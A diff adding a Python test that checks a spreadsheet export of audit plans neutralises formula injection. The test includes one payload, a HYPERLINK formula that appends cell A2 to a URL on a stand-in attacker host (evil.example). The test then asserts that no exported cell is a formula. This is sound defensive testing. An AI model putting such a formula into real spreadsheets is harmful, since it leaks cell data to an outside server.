@@ -201,3 +201,15 @@ def test_xlsx_and_docx_carry_the_plan():
     assert table.rows[1].cells[1].text == plan.bodies[0].audit_date.strftime("%d.%m.%Y")
     assert table.rows[1].cells[3].text.startswith("kind:")
     assert doc.sections[0].page_width > doc.sections[0].page_height, "landscape"
+
+
+def test_xlsx_cells_are_inert():
+    evil = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
+    plan = _plan(
+        [_rec("programmes", "economic-policy", row="L45", state="overdue_change", title=evil)],
+        deadline="2027-06-30",
+    )
+    wb = load_workbook(io.BytesIO(audit_export.plan_to_xlsx(plan)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert "'" + evil in {c.value for c in cells}
